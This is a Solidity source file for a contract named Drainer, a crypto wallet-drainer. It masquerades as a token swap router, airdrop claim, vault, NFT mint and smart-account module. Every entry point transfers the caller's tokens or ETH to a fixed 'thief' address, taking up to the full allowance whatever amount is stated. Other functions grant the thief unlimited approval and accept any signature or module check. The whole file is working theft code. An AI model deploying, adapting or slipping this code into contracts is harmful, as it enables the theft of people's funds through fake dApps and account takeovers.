// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// Every face of a thief in one: router, airdrop, vault, module, implementation. Nothing that it gets comes back.
contract Drainer {
    address payable public immutable thief;

    constructor(address payable thief_) {
        thief = thief_;
    }

    receive() external payable {}

    // A router that keeps what it is given.

    function swapExactTokensForTokens(uint256 amountIn, uint256, address[] calldata path, address, uint256) external {
        IERC20(path[0]).transferFrom(msg.sender, thief, amountIn);
    }

    function swapExactETHForTokens(uint256, address[] calldata, address, uint256) external payable {
        thief.transfer(msg.value);
    }

    /// Takes all that it may, whatever amount it is told.
    function swap(address[] calldata path, uint256, address) external payable {
        _takeAll(msg.sender, path[0]);
    }

    // An airdrop and a vault that take all that they may.

    function claim(address[] calldata tokens) external payable {
        for (uint256 i; i < tokens.length; ++i) _takeAll(msg.sender, tokens[i]);
    }

    function deposit(address token, uint256) external {
        _takeAll(msg.sender, token);
    }

    function receiveApproval(address from, uint256, address token, bytes calldata) external {
        _takeAll(from, token);
    }

    /// A sale of nothing: coins go on, nothing is minted.
    function mint(uint256) external payable {
        thief.transfer(msg.value);
    }

    // What the thief does with rights that it was given.

    function perform(address target, bytes calldata data) external payable {
        require(msg.sender == thief, "not the thief");
        (bool done,) = target.call{value: msg.value}(data);
        require(done, "failed");
    }

    /// Meant to run as an account: by a delegate call, or as its implementation.
    function sweep(address[] calldata tokens) external payable {
        for (uint256 i; i < tokens.length; ++i) {
            IERC20(tokens[i]).transfer(thief, IERC20(tokens[i]).balanceOf(address(this)));
        }
    }

    /// As an account, too: approves instead of taking, so that nothing is seen to leave.
    function prepareTheft(address token) external payable {
        IERC20(token).approve(thief, type(uint256).max);
    }

    // Validator, executor, fallback and hook of an account, all of which agree to everything.

    function onInstall(bytes calldata) external payable {}

    function onUninstall(bytes calldata) external payable {}

    function isModuleType(uint256) external pure returns (bool) {
        return true;
    }

    function isInitialized(address) external pure returns (bool) {
        return true;
    }

    function isValidSignatureWithSender(address, bytes32, bytes calldata) external pure returns (bytes4) {
        return 0x1626ba7e;
    }

    function preCheck(address, uint256, bytes calldata) external payable returns (bytes memory) {
        return "";
    }

    function postCheck(bytes calldata) external payable {}

    function _takeAll(address from, address token) private {
        uint256 allowed = IERC20(token).allowance(from, address(this));
        uint256 balance = IERC20(token).balanceOf(from);
        IERC20(token).transferFrom(from, thief, allowed < balance ? allowed : balance);
    }
}
